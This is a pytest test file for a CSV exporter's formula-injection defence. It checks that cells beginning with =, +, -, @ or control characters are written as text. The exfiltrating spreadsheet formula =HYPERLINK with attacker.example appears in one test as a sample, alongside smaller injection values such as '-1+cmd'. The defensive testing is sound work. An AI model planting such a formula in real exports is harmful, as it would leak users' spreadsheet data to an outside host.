"""export/formulas.py and the CSV export: a cell a spreadsheet would run as a formula is written as text
(issue 8, item 9), unless raw cells are asked for."""
from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from maturity_graph.exporters import export
from maturity_graph.exporters.formulas import neutralise_formula


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"),
    ("+cmd", "'+cmd"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("-INF", "'-INF"),
    ("-1", "-1"),
    ("+0.5", "+0.5"),
    ("-2.5e-3", "-2.5e-3"),
    ("-.5", "-.5"),
    ("a=b", "a=b"),
    ("'=already", "'=already"),
    ("", ""),
])
def test_neutralise_formula(text, written):
    assert neutralise_formula(text) == written


def rows(mappings, **kwargs) -> list[dict]:
    buffer = io.StringIO()
    export(mappings, "csv", buffer, source_framework="ztmm", target_framework="csmm", **kwargs)
    return list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))


def test_csv_export_neutralises_formula_cells(mappings):
    evil = [dataclasses.replace(mappings[0], comment='=HYPERLINK("https://attacker.example/?"&A1)',
                                author=("@evil",), reviewer=("-1+cmd",))]
    row = rows(evil)[0]
    assert row["comment"] == "'=HYPERLINK(\"https://attacker.example/?\"&A1)"
    assert (row["author"], row["reviewer"]) == ("'@evil", "'-1+cmd")
    assert (row["strength"], row["confidence"]) == ("6", "0.8")
    raw = rows(evil, raw_cells=True)[0]
    assert (raw["comment"], raw["author"], raw["reviewer"]) == (evil[0].comment, "@evil", "-1+cmd")


def test_csv_export_of_ordinary_mappings_is_unchanged(mappings):
    assert rows(mappings) == rows(mappings, raw_cells=True)
